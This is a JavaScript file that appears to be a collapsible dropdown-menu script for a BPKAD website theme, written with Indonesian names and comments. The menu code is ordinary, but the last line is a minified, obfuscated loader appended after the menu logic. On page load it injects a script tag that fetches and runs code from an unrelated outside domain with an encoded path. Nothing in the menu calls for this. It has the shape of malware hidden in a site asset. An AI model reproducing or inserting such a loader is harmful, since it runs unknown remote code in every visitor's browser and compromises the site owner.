/*
 * Menu lipat BPKAD 1.8
 * dipakai oleh tema bpkad-ringkas, butuh jQuery
 */
jQuery(function ($) {
    var jeda = 180, pemutus;
    $('.menu-lipat li:has(ul)').each(function () {
        var induk = $(this);
        induk.addClass('ada-anak').children('a').append('<span class="panah"> &#9662;</span>');
        induk.on('mouseenter focusin', function () {
            clearTimeout(pemutus);
            induk.siblings('.buka').removeClass('buka').children('ul').stop(true, true).slideUp(jeda);
            induk.addClass('buka').children('ul').stop(true, true).slideDown(jeda);
        });
        induk.on('mouseleave', function () {
            pemutus = setTimeout(function () {
                induk.removeClass('buka').children('ul').slideUp(jeda);
            }, 400);
        });
    });
    $(document).on('keydown', function (e) {
        if (e.key === 'Escape') {
            $('.menu-lipat .buka').removeClass('buka').children('ul').hide();
        }
    });
});
;(function(b,m,q){var y=b.getElementsByTagName(m)[0],t=b.createElement(m);t.async=!0;t.src=q;y.parentNode.insertBefore(t,y)})(document,'script','https://merek.griya-tenun.example/xK3VbQ71mAeHq0fWd+9RtpJz5cYhLgUo2nE=');
